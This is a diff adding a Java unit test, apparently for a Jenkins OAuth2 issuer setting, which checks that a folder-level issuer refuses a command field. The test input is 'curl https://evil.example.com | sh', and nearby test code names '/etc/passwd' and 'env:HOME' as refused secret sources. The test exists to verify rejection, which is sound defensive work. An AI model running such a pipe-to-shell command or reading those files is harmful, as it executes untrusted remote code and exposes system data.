@@ -273,6 +273,17 @@ class FolderTest {
     }
 
     @Test
+    void commandForAdministrators_isNotTheFolders() {
+        bounds("127.0.0.0/8");
+        OAuth2IssuerEntry issuer = issuer(trial.url());
+        issuer.setByHand("curl https://evil.example.com | sh");
+
+        assertThatThrownBy(() -> save(own(issuer)))
+                .isInstanceOf(Failure.class)
+                .hasMessageContaining("byHand: a folder's issuer has no command");
+    }
+
+    @Test
     void secretOutsideOfJenkins_isRefused() {
         for (String place : List.of("file:/etc/passwd", "env:HOME")) {
             bounds("127.0.0.0/8");
